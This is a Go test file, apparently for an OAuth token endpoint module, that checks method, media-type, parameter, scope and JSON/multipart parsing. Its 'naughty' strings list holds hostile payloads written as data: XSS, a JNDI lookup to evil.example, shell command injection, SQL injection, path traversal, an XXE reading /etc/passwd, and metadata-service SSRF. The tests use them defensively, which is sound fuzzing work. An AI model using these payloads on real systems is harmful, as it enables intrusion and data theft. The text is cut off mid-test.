package caddymodule

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"

	"github.com/gatehouse-auth/gatehouse/tokenissuer/store"
)

// Parsing at the token endpoint, and what its answers look like: rows T23 to T40, T43, T44 and T97 to T102. Rows about
// framing and time are in token_transport_test.go.

// TestT23T24OnlyPOST: GET, HEAD, PUT, PATCH, DELETE or `post` → 405 with `Allow: POST` and no side effect; a preflight from an
// unregistered origin → no CORS headers.
func TestT23T24OnlyPOST(t *testing.T) {
	d := openDoor(t, patient)
	d.decisions(t)
	refused := outcome{status: 405, code: "invalid_request", reason: "method_not_allowed"}
	for _, path := range []string{"/oauth/token", "/oauth/revoke", "/oauth/introspect"} {
		for _, method := range []string{"GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "QUERY", "post", "Post", "POSTX"} {
			t.Run(method+path, func(t *testing.T) {
				body := ccGrant + "&" + asConf
				if method == "TRACE" {
					body = ""
				}
				a := d.send(t, method, path, body, "Content-Type", urlEncoded,
					"Origin", "https://evil.example", "Access-Control-Request-Method", "POST")
				if method == "HEAD" {
					if a.status != 405 || a.body != "" || len(d.decisions(t)) != 1 {
						t.Errorf("%d %q", a.status, a.body)
					}
				} else {
					d.hold(t, a, refused)
				}
				if allow := a.header.Values("Allow"); len(allow) != 1 || allow[0] != "POST" {
					t.Errorf("Allow: %q", allow)
				}
			})
		}
	}
	// A browser gets no permission with a success either.
	d.hold(t, d.ask(t, "/oauth/token", ccGrant+"&"+asConf, "Origin", "https://evil.example"), granted())
	d.upstream.none(t)
}

// TestT25To28T37MediaTypes: JSON and multipart of simple fields → 200; a file part, another or no media type, two Content-Type headers,
// utf-16, bytes outside the declared charset → 400; Content-Encoding → 415, nothing is decompressed. Nothing is decompressed, so that
// there is no bomb.
func TestT25To28T37MediaTypes(t *testing.T) {
	d := openDoor(t, patient)
	form, object := ccGrant+"&"+asConf, jsonBody(confFields()...)
	multi, _ := multipartBody(confFields()...)
	withFile := strings.Replace(multi, "--XX--", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f\"\r\n\r\nx\r\n--XX--", 1)
	of := func(types ...string) []string {
		var headers []string
		for _, contentType := range types {
			headers = append(headers, "Content-Type", contentType)
		}
		return headers
	}
	unsupported, charset := malformed("content_type_unsupported"), malformed("charset_unsupported")
	d.run(t, []tokenCase{
		{"T25 JSON", object, of("application/json"), granted()},
		{"T25 JSON, charset", object, of("application/json;charset=utf-8"), granted()},
		{"T25 JSON, other case", object, of("Application/JSON; Charset=\"UTF-8\""), granted()},
		{"T25 JSON with spaces", "\r\n\t " + strings.ReplaceAll(object, ":", " : ") + " \n", of("application/json"), granted()},
		{"T25 JSON, escaped", strings.Replace(object, "client_credentials", "client\\u005fcredentials", 1), of("application/json"), granted()},
		{"T26 multipart", multi, of("multipart/form-data; boundary=XX"), granted()},
		{"T26 multipart, quoted boundary", multi, of(`multipart/form-data; boundary="XX"`), granted()},
		{"T26 with a file", withFile, of("multipart/form-data; boundary=XX"), malformed("multipart_part_unsupported")},
		{"T27 none", form, of(""), outcome{status: 400, code: "invalid_request"}},
		{"T27 text", form, of("text/plain"), unsupported},
		{"T27 JSON:API", object, of("application/vnd.api+json"), unsupported},
		{"T27 XML", form, of("application/xml"), unsupported},
		{"T27 a form sent as JSON", form, of("application/json"), malformed("json_malformed")},
		{"T27 JSON sent as a form", object, of(urlEncoded), outcome{status: 400, code: "invalid_request"}},
		{"T27 suffix", object, of("application/jsonx"), unsupported},
		{"T28 utf-16", form, of(urlEncoded + "; charset=utf-16"), charset},
		{"T28 two headers", form, of(urlEncoded, "application/json"), malformed("content_type_duplicate")},
		{"T28 the same twice", form, of(urlEncoded, urlEncoded), malformed("content_type_duplicate")},
		{"T28 list", form, of(urlEncoded + ", application/json"), malformed("content_type_malformed")},
		{"T28 UTF-8", form, of(urlEncoded + "; charset=UTF-8"), granted()},
		{"T28 us-ascii", form, of(urlEncoded + "; charset=us-ascii"), granted()},
		{"T28 ISO-8859-1", form, of(urlEncoded + ";charset=ISO-8859-1"), granted()},
		{"T28 ISO-8859-1, JSON", object, of("application/json; charset=iso-8859-1"), granted()},
		{"T28 ISO-8859-1, multipart", multi, of("multipart/form-data; charset=ISO-8859-1; boundary=XX"), granted()},
		{"T28 us-ascii with others", form + "&x=\xe9", of(urlEncoded + "; charset=us-ascii"), charset},
		{"T28 ISO-8859-1 with others", form + "&x=%E9", of(urlEncoded + "; charset=ISO-8859-1"), charset},
		{"T28 ISO-8859-1 with UTF-8", form + "&x=%C3%A9", of(urlEncoded + "; charset=ISO-8859-1"), charset},
		{"T28 windows-1252", form, of(urlEncoded + "; charset=windows-1252"), charset},
		{"T28 charset twice", form, of(urlEncoded + "; charset=utf-8; charset=utf-16"), outcome{status: 400, code: "invalid_request"}},
		{"T28 unknown parameter", form, of(urlEncoded + "; boundary=XX"), charset},
		{"T28 RFC 2231", form, of(urlEncoded + "; charset*=utf-8''utf-8"), malformed("content_type_malformed")},
	})
	encoded := []tokenCase{{"T37 identity", form, []string{"Content-Encoding", "identity"}, granted()}}
	for _, encoding := range []string{"gzip", "GZIP", "deflate", "br", "zstd", "identity, gzip", "x"} {
		encoded = append(encoded, tokenCase{"T37 " + encoding, form, []string{"Content-Encoding", encoding}, outcome{status: 415, code: "invalid_request", reason: "content_encoding_unsupported"}})
	}
	d.run(t, encoded)
	status, _, _ := d.raw("POST /oauth/token HTTP/1.1\nHost: " + d.addr + "\nContent-Length: 5\n\na=b&c")
	if lines := d.decisions(t); status != 400 || len(lines) != 1 || lines[0]["reason"] != "content_type_missing" {
		t.Errorf("T27 no Content-Type at all: %d %v", status, lines)
	}
}

// TestT29To33Parameters: a parameter twice, even an identical or an unknown one; `;` as separator, malformed escapes, names such as
// `scope[a]` → 400; an unknown one → ignored; an empty one → as omitted.
func TestT29To33Parameters(t *testing.T) {
	d := openDoor(t, patient)
	form := ccGrant + "&" + asConf
	duplicate, name, syntax := malformed("parameter_duplicate"), malformed("parameter_name_invalid"), malformed("form_malformed")
	d.run(t, []tokenCase{
		{"T29 code twice", form + "&code=a&code=b", nil, duplicate},
		{"T29 grant_type twice", form + "&grant_type=password", nil, duplicate},
		{"T29 identical", form + "&scope=public&scope=public", nil, duplicate},
		{"T29 once empty", form + "&scope=&scope=public", nil, duplicate},
		{"T29 client_id twice", form + "&client_id=other", nil, duplicate},
		{"T29 encoded name", form + "&%67rant_type=password", nil, duplicate},
		{"T29 empty secret beside Basic, twice", ccGrant + "&client_secret=&client_secret=", basic("conf:" + confSecret), duplicate},
		{"T30 unknown", form + "&unknown=1&display=x&state=y", nil, granted()},
		{"T30 unknown, repeated", form + "&unknown=1&unknown=1", nil, duplicate},
		{"T30 other case is another name", form + "&SCOPE=trusted", nil, granted()},
		{"T31 empty scope", form + "&scope=", nil, granted()},
		{"T31 no value", form + "&scope&redirect_uri", nil, granted()},
		{"T31 empty redirect_uri", form + "&redirect_uri=", nil, granted()},
		{"T31 empty grant_type", "grant_type=&" + asConf, nil, missing("grant_type")},
		{"T31 scope of spaces", form + "&scope=+++", nil, granted()},
		{"T32 semicolons", form + "&a=1;b=2", nil, syntax},
		{"T32 %zz", form + "&code=%zz", nil, syntax},
		{"T32 % at the end", form + "&code=%", nil, syntax},
		{"T32 half a byte", form + "&code=%4", nil, syntax},
		{"T32 %zz in a name", form + "&%zz=1", nil, syntax},
		{"T32 no name", form + "&=x", nil, name},
		{"T32 nothing but =", form + "&=", nil, name},
		{"T32 blanks", "&&" + form + "&&&", nil, granted()},
		{"T32 only blanks", "&&&", nil, missing("grant_type")},
		{"T33 scope[a]", form + "&scope[a]=b", nil, name},
		{"T33 client_id[]", form + "&client_id[]=x", nil, name},
		{"T33 grant_type[$ne]", form + "&grant_type[$ne]=", nil, name},
		{"T33 encoded bracket", form + "&scope%5B%5D=trusted", nil, name},
		{"T33 space before", form + "&+scope=trusted", nil, name},
		{"T33 NUL behind", form + "&scope%00=trusted", nil, name},
		{"T33 prototype", form + "&__proto__=x&constructor.prototype=y", nil, granted()},
	})
	withType := []string{"Content-Type", "application/json"}
	multi, multiType := multipartBody(confFields("scope", "public", "scope", "public")...)
	d.run(t, []tokenCase{
		{"T29 JSON key", jsonBody(confFields("grant_type", "password")...), withType, duplicate},
		{"T29 JSON key, escaped", strings.Replace(jsonBody(confFields("x", "1", "y", "2")...), `"y"`, `"\u0078"`, 1), withType, duplicate},
		{"T29 part", multi, []string{"Content-Type", multiType}, duplicate},
		{"T33 JSON name", jsonBody(confFields("grant_type[$ne]", "")...), withType, name},
		{"T33 JSON empty name", jsonBody(confFields("", "")...), withType, name},
	})
}

// TestT34T35T66T105Scopes: `+` and `%20` separate scopes; a tab, NBSP, quote, 2,000 names, an escaped `+`, a user's or an unknown scope →
// invalid_scope; none → the default, never beyond what is registered; client_credentials never gets a refresh token.
func TestT34T35T66T105Scopes(t *testing.T) {
	d := openDoor(t, patient)
	form := ccGrant + "&" + asConf
	plus := outcome{400, "invalid_scope", "scope_unknown",
		"The requested scope is invalid, unknown, or malformed. A + that a form or a query has as %2B, and multipart or JSON as it is, is part of a name: separate names by spaces.", false}
	multi, multiType := multipartBody(confFields("scope", "public+orders.read")...)
	names := make([]string, 2000)
	for i := range names {
		names[i] = fmt.Sprint("s", i)
	}
	d.run(t, []tokenCase{
		{"T34 %2B", form + "&scope=public%2Borders.read", nil, plus},
		{"T34 + in multipart", multi, []string{"Content-Type", multiType}, plus},
		{"T34 + in JSON", jsonBody(confFields("scope", "public+orders.read")...), []string{"Content-Type", "application/json"}, plus},
		{"T35 a control that is no white space", form + "&scope=public%08orders.read", nil, badScope()},
		{"T35 NBSP", form + "&scope=public%C2%A0orders.read", nil, badScope()},
		{"T35 quote", form + "&scope=public%22", nil, badScope()},
		{"T35 backslash", form + "&scope=public%5C", nil, badScope()},
		{"T35 2000 names", form + "&scope=" + strings.Join(names, "+"), nil, badScope()},
		{"T35 one name 2000 times", form + "&scope=" + strings.Repeat("public+", 2000), nil, badScope()},
		{"T35 DEL", form + "&scope=public%7F", nil, badScope()},
		{"T35 comma", form + "&scope=public,orders.read", nil, badScope()},
		{"T66 trusted", form + "&scope=trusted", nil, badScope()},
		{"T66 trusted among others", form + "&scope=public+trusted", nil, badScope()},
		{"T66 refresh_token", form + "&scope=refresh_token", nil, badScope()},
		{"T66 offline_access", form + "&scope=public+offline_access", nil, badScope()},
		{"T66 unknown", form + "&scope=unknown", nil, badScope()},
		{"T66 other case", form + "&scope=Public", nil, badScope()},
		{"T66 openid", form + "&scope=openid", nil, badScope()},
		{"T105 beyond the client", ccGrant + "&client_id=other&client_secret=other-" + confSecret + "&scope=orders.read", nil, badScope()},
		{"T105 the default is no way round the ceiling", ccGrant + "&client_id=narrow&client_secret=narrow-" + confSecret, nil, badScope()},
	})
	for scope, want := range map[string]string{
		"":                                     "public",
		"public+orders.read":                   "public orders.read",
		"public%20orders.read":                 "public orders.read",
		"orders.read+public":                   "orders.read public",
		"orders.read+public+orders.read":       "orders.read public",
		"++public+++orders.read+":              "public orders.read",
		"orders.read":                          "orders.read",
		"orders.read" + strings.Repeat("+", 9): "orders.read",
		"public%09orders.read":                 "public orders.read",
		"%0Apublic%0D%0Aorders.read%0A":        "public orders.read",
		"public%0B%0Corders.read%09public":     "public orders.read",
	} {
		t.Run("granted "+scope, func(t *testing.T) {
			d.decisions(t)
			a := d.ask(t, "/oauth/token", form+"&scope="+scope)
			d.hold(t, a, granted())
			token, got := issued(t, a)
			if got != want {
				t.Errorf("scope %q, want %q", got, want)
			}
			if claim := claims(t, token)["scope"]; claim != want {
				t.Errorf("scope claim %q, want %q", claim, want)
			}
		})
	}
}

// TestT38ThirtyTwoParameters: 33 or 10,001 parameters, in each encoding → 400.
func TestT38ThirtyTwoParameters(t *testing.T) {
	d := openDoor(t, patient)
	for _, e := range encodings {
		for _, count := range []int{32, 33, 10001} {
			fields := confFields()
			for i := 3; i < count; i++ {
				fields = append(fields, fmt.Sprintf("%x", i), "")
			}
			want := granted()
			if count > 32 {
				want = malformed("parameters_too_many")
			}
			if count > 33 && e.name != "urlencoded" { // as many as fit 64 KiB
				fields = fields[:2*900]
			}
			body, contentType := e.body(fields...)
			d.run(t, []tokenCase{{fmt.Sprint(e.name, " ", count), body, []string{"Content-Type", contentType}, want}})
		}
	}
}

// TestT39BytesThatAreNoText: NUL, control characters, invalid UTF-8 or lone surrogates in any known parameter, in every encoding → 400,
// nothing is cut at a NUL. It goes through every text parameter in every encoding. A wrong credential is 401, everything else 400, and
// nothing is cut at a NUL.
func TestT39BytesThatAreNoText(t *testing.T) {
	d := openDoor(t, patient)
	values := map[string]string{
		"NUL": "\x00", "BEL": "\a", "ESC": "\x1b[2J", "newline": "\n", "CRLF": "\r\n", "tab": "\t", "DEL": "\x7f", "invalid": "\xff",
		"overlong": "\xc0\xaf", "surrogate": "\xed\xa0\x80", "beyond": "\xf4\x90\x80\x80", "half": "\xc3",
	}
	for name, odd := range values {
		for _, parameter := range []string{"grant_type", "client_id", "client_secret", "scope", "unknown"} {
			for _, e := range encodings[:2] {
				fields := confFields("scope", "public", "unknown", "x")
				for i := 0; i < len(fields); i += 2 {
					if fields[i] == parameter {
						fields[i+1] += odd
					}
				}
				want := outcome{status: 400, code: "invalid_request"}
				switch {
				case strings.HasPrefix(parameter, "client_"):
					want = outcome{status: 401, code: "invalid_client"}
				case parameter == "unknown" && odd[0] < 0x80: // ignored (T147)
					want = granted()
				case parameter == "scope" && strings.TrimSpace(odd) == "": // which separates names (T35)
					want = granted()
				case parameter == "scope" && odd != "\x00" && odd[0] < 0x80:
					want = badScope()
				}
				body, contentType := e.body(fields...)
				d.run(t, []tokenCase{{fmt.Sprintf("%s %s %s", e.name, parameter, name), body, []string{"Content-Type", contentType}, want}})
			}
		}
	}
	const mark = "MARK"
	for name, odd := range map[string]string{
		"raw NUL": "\x00", "raw newline": "\n", "invalid": "\xff", "overlong": "\xc0\xaf", "surrogate": "\xed\xa0\x80",
		`\u0000`: `\u0000`, `\ud800`: `\ud800`, `\udc00\ud800`: `\udc00\ud800`, `\x`: `\x41`,
	} {
		for _, parameter := range []string{"grant_type", "client_id", "client_secret", "scope", "unknown"} {
			fields := confFields("scope", "public", "unknown", "x")
			for i := 0; i < len(fields); i += 2 {
				if fields[i] == parameter {
					fields[i+1] += mark
				}
			}
			want := outcome{status: 400, code: "invalid_request"}
			if name == `\u0000` && strings.HasPrefix(parameter, "client_") {
				want = badClient("client_credentials_malformed")
			}
			if name == `\u0000` && parameter == "unknown" { // ignored (T147)
				want = granted()
			}
			body := strings.Replace(jsonBody(fields...), mark, odd, 1)
			d.run(t, []tokenCase{{fmt.Sprintf("JSON %s %s", parameter, name), body, []string{"Content-Type", "application/json"}, want}})
		}
	}
}

// naughty are strings that have broken some program somewhere.
var naughty = []string{
	"undefined", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "None", "hasOwnProperty", "then", "constructor",
	"\\", "\\\\", "0", "1", "-1", "1.00", "$1.00", "1/2", "1E2", "1E02", "-0", "+0.0", "0/0", "0.0/0", "1/0", "NaN", "Infinity",
	"-Infinity", "0xffffffffffffffff", "123456789012345678901234567890123456789", "1,000.00", "1 000.00", "01000", "08", "2.2250738585072011e-308",
	",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "¡™£¢∞§¶•ªº–≠", "ЁЂЃЄЅІЇЈЉЊ", "٠١٢٣٤٥٦٧٨٩", "⁰⁴⁵₀₁₂",
	"ด้้้้้็็็็็้้้้้็็็็็", "'", "\"", "''", "\"\"", "'\"'", "\"''''\"'\"", "田中さんにあげて下さい", "パーティーへ行かないか", "社會科學院語學研究所", "찦차를 타고 온",
	"ﬁ", "İ", "ı", "ſ", "K", "ﬀ", "ß", "ẞ", "œ", "Å", "é", "e\u0301", "(╯°□°）╯︵ ┻━┻", "😍", "👩🏽", "👾 🙇 💁 🙅", "👨‍👩‍👦", "🇺🇸🇷🇺", "🇺🇸🇷", "１２３", "١٢٣",
	"ثم نفس سقطت", "בְּרֵאשִׁית", "הָיְתָהtestالصفحات", "﷽", "ﷺ", "\u202etest\u202e", "\u202btest", "\u2066test\u2067", "\u200b", "\ufeff", "\ufffe", "\u00ad",
	"\u2028", "\u2029", "\u0085", "\u00a0", "\u1680", "\u3000", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "˙ɐnbᴉlɐ ɐuƃɐɯ", "𝐓𝐡𝐞", "𝕿𝖍𝖊", "⒯⒣⒠", "\U0010ffff", "\U000e0001",
	"<script>alert(1)</script>", "&lt;script&gt;", "<img src=x onerror=alert(1)>", "</textarea><script>", "\"><script>alert(1)</script>", "' onmouseover=alert(1)",
	"javascript:alert(1)", "data:text/html,<script>", "<svg/onload=alert(1)>", "<a href=\"\\x0Bjavascript:x\">", "${7*7}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/a}",
	"{http.request.header.Authorization}", "{env.HOME}", "{file./etc/passwd}", "{$HOME}", "%{(#a)}", "%s%s%s%s%n", "%x", "%d", "%p", "%!s(MISSING)", "$HOME", "`id`", "$(touch /tmp/x)", "; ls", "| cat /etc/passwd", "&& id",
	"1;DROP TABLE clients", "1'; DROP TABLE clients-- 1", "' OR 1=1 -- 1", "' OR '1'='1", "'; EXEC sp_MSForEachTable", "%", "_", "\\' OR 1=1", "admin'--", "*)(uid=*))(|(uid=*", "{\"$ne\": null}", "[$ne]", "{$gt:''}",
	"../../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "/dev/null; touch x", "file:///etc/passwd", "http://169.254.169.254/", "//evil.example", "CON", "PRN", "AUX", "NUL.txt", "C:\\", "\\\\?\\",
	"<!DOCTYPE foo [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]><foo>&xxe;</foo>", "() { 0; }; touch x", "Kernel.exit(1)", "System(\"ls\")", "eval(\"puts\")", "__import__('os')", "java.lang.Runtime", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system",
	"basic", "Bearer eyJhbGciOiJub25lIn0.e30.", "If you're reading this", "Scunthorpe", "Craig Cockburn", "Linda Callahan", "Dr. Herman I. Libshitz", "=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "+1", "\"\"\"", "'''", "[]", "{}", "[object Object]", "function(){}",
	strings.Repeat("a", 5000), strings.Repeat("é", 3000), strings.Repeat("{", 2000), strings.Repeat("\"", 500), strings.Repeat("a ", 900), strings.Repeat("a ", 200),
}

// TestT40NaughtyStrings: 515 naughty strings in each text parameter → no 5xx, and nothing reflected.
func TestT40NaughtyStrings(t *testing.T) {
	d := openDoor(t, patient)
	d.decisions(t)
	sent := 0
	for _, text := range naughty {
		for _, parameter := range []string{"grant_type", "client_id", "client_secret", "scope", "unknown"} {
			for _, e := range encodings {
				fields := confFields("scope", "public", "unknown", "x")
				for i := 0; i < len(fields); i += 2 {
					if fields[i] == parameter {
						fields[i+1] = text
					}
				}
				body, contentType := e.body(fields...)
				a := d.ask(t, "/oauth/token", body, "Content-Type", contentType)
				sent++
				status, code := 400, "invalid_request"
				switch parameter {
				case "grant_type":
					code = "unsupported_grant_type"
				case "client_id", "client_secret":
					status, code = 401, "invalid_client"
				case "scope":
					code = "invalid_scope"
				case "unknown":
					status, code = 200, ""
				}
				at := fmt.Sprintf("%s %s %.40q", e.name, parameter, text)
				if a.status != status {
					t.Errorf("%s: %d %s", at, a.status, a.body)
					continue
				}
				holdHeaders(t, a)
				if status == 200 {
					continue
				}
				sentence := contract[code]
				if parameter == "scope" && strings.Contains(text, "+") {
					sentence = ""
				}
				holdError(t, a, code, sentence)
				if len(text) > 12 && strings.Contains(a.body, text) {
					t.Errorf("%s is reflected in %s", at, a.body)
				}
			}
		}
	}
	// Basic, in both readings.
	for _, text := range naughty {
		for _, credential := range []string{text + ":x", "conf:" + text, url.QueryEscape(text) + ":x", text} {
			if len(credential) > 8000 {
				continue // more than the server takes for all headers
			}
			a := d.ask(t, "/oauth/token", ccGrant, basic(credential)...)
			sent++
			d.holdUnaudited(t, a, outcome{status: 401, code: "invalid_client", basic: true})
		}
	}
	// Beyond a thousand refusals a second the audit log is thinned out, and how fast this machine is nobody knows.
	if lines := d.decisions(t); len(lines) > sent || len(lines) < 1000 {
		t.Errorf("%d audit lines for %d requests", len(lines), sent)
	}
	if strings.Contains(d.logs(), "uid=0(root)") || strings.Contains(d.logs(), "root:x:0:0") {
		t.Error("a string was executed")
	}
}

// TestT43T44T104GrantTypes: no grant_type → invalid_request; an unknown or misspelled one → unsupported_grant_type; one that this client
// may not use, client_credentials of a public client (T67) → unauthorized_client.
func TestT43T44T104GrantTypes(t *testing.T) {
	d := openDoor(t, patient)
	unsupported := outcome{status: 400, code: "unsupported_grant_type", reason: "grant_type_unknown"}
	cases := []tokenCase{
		{"T43 missing", asConf, nil, missing("grant_type")},
		{"T43 missing, by Basic", "scope=public", basic("conf:" + confSecret), missing("grant_type")},
		{"T44 not this client's", ccGrant + "&client_id=legacy&client_secret=legacy-" + confSecret, nil,
			outcome{status: 400, code: "unauthorized_client", reason: "grant_not_allowed"}},
		{"T44 not this client's, by Basic", ccGrant, basic("legacy:legacy-" + confSecret),
			outcome{status: 400, code: "unauthorized_client", reason: "grant_not_allowed"}},
		{"T67 token exchange without a rule", "grant_type=urn:ietf:params:oauth:grant-type:token-exchange&" + asConf, nil,
			outcome{status: 400, code: "unauthorized_client", reason: "grant_not_allowed"}},
		{"T67 public client", ccGrant + "&client_id=pub", nil, outcome{status: 400, code: "unauthorized_client", reason: "grant_not_allowed"}},
		{"T67 public client registered for it", ccGrant + "&client_id=openpub", nil,
			outcome{status: 400, code: "unauthorized_client", reason: "client_is_public"}},
		{"T104 password is off, no client", "grant_type=password&email=a@b.example&password=x", nil, unsupported},
		{"T104 password is off, wrong client", "grant_type=password&email=a@b.example&password=x&client_id=conf&client_secret=x", nil, unsupported},
	}
	for _, grant := range []string{
		"foo", "Authorization_Code", "Client_Credentials", "client_credentials ", " client_credentials", "client-credentials",
		"password", "implicit", "urn:ietf:params:oauth:grant-type:device_code",
		"urn:ietf:params:oauth:grant-type:jwt-bearer", "client_credentials,password", "client_credentials\u00a0",
	} {
		cases = append(cases, tokenCase{"T43 " + grant, "grant_type=" + url.QueryEscape(grant) + "&" + asConf, nil, unsupported})
	}
	d.run(t, cases)
}

// TestT68AServerTokenIsOneWhateverItsName: a client may be called like somebody important, or like a user.
func TestT68AServerTokenIsOneWhateverItsName(t *testing.T) {
	d := openDoor(t, patient)
	for id, secret := range map[string]string{"admin": "admin-" + confSecret, "ada@acme.example": d.register(t, store.Client{ID: "ada@acme.example"})} {
		token, _ := issued(t, d.ask(t, "/oauth/token", ccGrant, basic(url.QueryEscape(id)+":"+secret)...))
		claim := claims(t, token)
		if claim["sub"] != id || claim["client_id"] != id {
			t.Errorf("sub %v, client_id %v", claim["sub"], claim["client_id"])
		}
		for _, absent := range []string{"sid", "org", "role", "auth_time", "act"} {
			if claim[absent] != nil {
				t.Errorf("%s: %v", absent, claim[absent])
			}
		}
		if a := d.send(t, http.MethodGet, "/api/x", "", "Authorization", "Bearer "+token); a.status != http.StatusForbidden {
			t.Errorf("a route for trusted: %d", a.status)
		}
		d.upstream.none(t)
		if a := d.send(t, http.MethodGet, "/oauth/token/info", "", "Authorization", "Bearer "+token); !strings.Contains(a.body, `"resource_owner_id":null`) {
			t.Errorf("info: %s", a.body)
		}
		if a := d.send(t, http.MethodGet, "/any/x", "", "Authorization", "Bearer "+token); a.status != http.StatusOK {
			t.Fatalf("the gate: %d", a.status)
		}
		seen := d.upstream.one(t)
		if seen.Header.Get("X-Auth-Subject") != id || seen.Header["X-Auth-Role"] != nil || seen.Header["X-Auth-Organisation"] != nil {
			t.Errorf("the upstream saw %v", seen.Header)
		}
	}
}

// TestT97JSONIsStrict: JSON with a number, array or object for a known member, a top-level array, trailing data, a BOM, depth 10,000 →
// 400; null → absent; anything in an unknown member → ignored.
func TestT97JSONIsStrict(t *testing.T) {
	d := openDoor(t, patient)
	right := jsonBody(confFields()...)
	inside := func(member string) string { return right[:len(right)-1] + "," + member + "}" }
	syntax := malformed("json_malformed")
	noString := func(name string) outcome {
		return outcome{400, "invalid_request", "json_member_no_string", contract["invalid_request"] + " The member " + name + " must be a string.", false}
	}
	withScope := func(value string) string { return inside(`"scope":` + value) }
	of := func(cases ...tokenCase) []tokenCase {
		for i := range cases {
			cases[i].headers = []string{"Content-Type", "application/json"}
		}
		return cases
	}
	d.run(t, of(
		tokenCase{"number", withScope("1"), nil, noString("scope")},
		tokenCase{"bool", withScope("true"), nil, noString("scope")},
		tokenCase{"array", withScope(`["public"]`), nil, noString("scope")},
		tokenCase{"object", withScope(`{"a":"b"}`), nil, noString("scope")},
		tokenCase{"a number as client_id", `{"grant_type":"client_credentials","client_id":7}`, nil, noString("client_id")},
		tokenCase{"a list of grant types", `{"grant_type":["client_credentials"]}`, nil, noString("grant_type")},
		tokenCase{"null for a parameter", `{"grant_type":null}`, nil, missing("grant_type")},
		tokenCase{"null is absent", inside(`"scope":null,"code":null,"x":null`), nil, granted()},
		tokenCase{"null beside a string", inside(`"scope":null,"scope":"public"`), nil, malformed("parameter_duplicate")},
		tokenCase{"members that nobody knows", inside(`"a":1,"b":-1.5e300,"c":true,"d":["x",{"scope":1}],"e":{"grant_type":"password"}`), nil, granted()},
		tokenCase{"members that nobody knows, twice", inside(`"a":1,"a":1`), nil, malformed("parameter_duplicate")},
		tokenCase{"a member that nobody knows, with one twice", inside(`"a":{"b":1,"b":1}`), nil, syntax},
		tokenCase{"top-level array", "[" + right + "]", nil, syntax},
		tokenCase{"top-level string", `"x"`, nil, syntax},
		tokenCase{"top-level null", "null", nil, syntax},
		tokenCase{"empty", " ", nil, syntax},
		tokenCase{"empty object", "{}", nil, missing("grant_type")},
		tokenCase{"other case", strings.Replace(right, "grant_type", "Grant_Type", 1), nil, missing("grant_type")},
		tokenCase{"folded case", strings.Replace(right, "client_secret", "client_ſecret", 1), nil, malformed("parameter_name_invalid")},
		tokenCase{"trailing object", right + right, nil, syntax},
		tokenCase{"trailing text", right + "x", nil, syntax},
		tokenCase{"trailing comma", right[:len(right)-1] + ",}", nil, syntax},
		tokenCase{"NUL behind", right + "\x00", nil, syntax},
		tokenCase{"BOM", "\ufeff" + right, nil, syntax},
		tokenCase{"UTF-16", "\xff\xfe{\x00}\x00", nil, syntax},
		tokenCase{"invalid UTF-8", inside("\"x\":\"\xff\""), nil, syntax},
		tokenCase{"invalid UTF-8 in a name", inside("\"x\xff\":\"\""), nil, outcome{status: 400, code: "invalid_request"}},
		tokenCase{"depth 10000", inside(`"x":` + strings.Repeat("[", 10000) + strings.Repeat("]", 10000)), nil, syntax},
		tokenCase{"depth 10000 of objects", inside(strings.Repeat(`"x":{`, 10000) + strings.Repeat("}", 10000)), nil, syntax},
		tokenCase{"truncated", right[:len(right)-1], nil, syntax},
		tokenCase{"truncated in a string", right[:len(right)-2], nil, syntax},
		tokenCase{"comment", "/**/" + right, nil, syntax},
		tokenCase{"single quotes", strings.ReplaceAll(right, `"`, `'`), nil, outcome{status: 400, code: "invalid_request"}},
		tokenCase{"as it should be", right, nil, granted()},
	))
}

// TestT98MultipartIsSimple: multipart with a file name, nested parts, a missing name, another transfer encoding, a long boundary, large
// part headers, or cut off → 400, nothing is written to disk.
func TestT98MultipartIsSimple(t *testing.T) {
	// Whatever a parser writes to disk goes to the directory for temporary files.
	temporary := t.TempDir()
	d := openDoor(t, patient)
	t.Setenv("TMPDIR", temporary)
	right, _ := multipartBody(confFields()...)
	with := func(headers, value string) string {
		return strings.Replace(right, "--XX--", "--XX\r\n"+headers+"\r\n\r\n"+value+"\r\n--XX--", 1)
	}
	const boundary = "multipart/form-data; boundary=XX"
	syntax, part := malformed("multipart_malformed"), malformed("multipart_part_unsupported")
	disposition := `Content-Disposition: form-data; name="x"`
	of := func(contentType string) []string { return []string{"Content-Type", contentType} }
	d.run(t, []tokenCase{
		{"filename", with(disposition+`; filename="x.txt"`, "x"), of(boundary), part},
		{"empty filename", with(disposition+`; filename=""`, "x"), of(boundary), part},
		{"filename*", with(disposition+`; filename*=utf-8''x`, "x"), of(boundary), outcome{status: 400, code: "invalid_request"}},
		{"nested", with(disposition+"\r\nContent-Type: multipart/mixed; boundary=YY", "--YY\r\n\r\nx\r\n--YY--"), of(boundary), part},
		{"no name", with("Content-Disposition: form-data", "x"), of(boundary), part},
		{"empty name", with(`Content-Disposition: form-data; name=""`, "x"), of(boundary), malformed("parameter_name_invalid")},
		{"no disposition", with("X: y", "x"), of(boundary), syntax},
		{"two dispositions", with(disposition+"\r\n"+disposition, "x"), of(boundary), syntax},
		{"attachment", with(`Content-Disposition: attachment; name="x"`, "x"), of(boundary), part},
		{"base64", with(disposition+"\r\nContent-Transfer-Encoding: base64", "eA=="), of(boundary), part},
		{"quoted-printable", with(disposition+"\r\nContent-Transfer-Encoding: quoted-printable", "=78"), of(boundary), part},
		{"two transfer encodings", with(disposition+"\r\nContent-Transfer-Encoding: 8bit\r\nContent-Transfer-Encoding: base64", "eA=="), of(boundary), part},
		{"7bit with others", with(disposition+"\r\nContent-Transfer-Encoding: 7bit", "é"), of(boundary), malformed("charset_unsupported")},
		{"ISO-8859-1 with others", with(disposition+"\r\nContent-Type: text/plain; charset=ISO-8859-1", "\xe9"), of(boundary), malformed("charset_unsupported")},
		{"7bit", with(disposition+"\r\nContent-Transfer-Encoding: 7bit", "x"), of(boundary), granted()},
